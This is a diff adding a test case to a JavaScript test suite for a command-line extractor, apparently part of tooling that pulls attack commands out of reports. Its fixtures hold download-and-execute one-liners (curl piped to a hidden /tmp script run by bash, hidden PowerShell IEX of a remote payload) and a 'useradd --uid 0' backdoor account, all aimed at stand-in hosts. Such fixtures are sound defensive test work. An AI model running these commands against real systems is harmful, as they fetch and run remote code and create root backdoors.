@@ -19,6 +19,14 @@ describe('extractCmdlines', () => {
     expect(values(text)).toEqual(['cmd /k "curl -o C:\\a.msi http://x.test/a && explorer /select,C:\\a.msi"', 'powershell -c "iex (iwr x)"']);
   });
 
+  it('drops the continuation markers of a command written over several lines', () => {
+    const text = ['```', 'curl -fsSL https://203.0.113.50/install.sh \\', '  -o /tmp/.i.sh && \\', '  bash /tmp/.i.sh', '```', '', '```bat', 'powershell.exe -nop -w hidden ^', '  -c "IEX (iwr http://203.0.113.51/a)"', '```'].join('\n');
+    expect(extractCmdlines(parseDocument(text)).map((item) => item.value)).toEqual([
+      'curl -fsSL https://203.0.113.50/install.sh -o /tmp/.i.sh && bash /tmp/.i.sh',
+      'powershell.exe -nop -w hidden -c "IEX (iwr http://203.0.113.51/a)"',
+    ]);
+  });
+
   it('reads inline code only when it is a program with arguments', () => {
     const text = 'It ran `useradd --uid 0 system` and dropped `main.zip`, then used `xmrig`.';
     expect(values(text)).toEqual(['useradd --uid 0 system']);
